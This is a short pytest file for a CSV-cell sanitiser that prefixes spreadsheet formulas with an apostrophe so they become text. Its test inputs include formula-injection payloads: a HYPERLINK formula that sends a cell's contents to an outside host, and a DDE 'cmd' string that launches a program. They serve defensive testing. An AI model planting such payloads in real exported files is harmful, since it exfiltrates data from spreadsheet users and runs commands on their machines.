"""Cells that spreadsheets would run."""

import pytest

from evalsvc.files.csv_cells import plain_cell


@pytest.mark.parametrize(
    "text",
    ["=1+1", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"],
)
def test_what_would_be_a_formula_is_text(text: str) -> None:
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", [-0.5, -3, None, True, "-Infinity", "-0.5", "+1e-3", "NaN", "a=b", "", " cheese", "coco/fid"]
)
def test_numbers_and_other_text_stay(value: object) -> None:
    """pandas reads them as they are."""
    assert plain_cell(value) is value
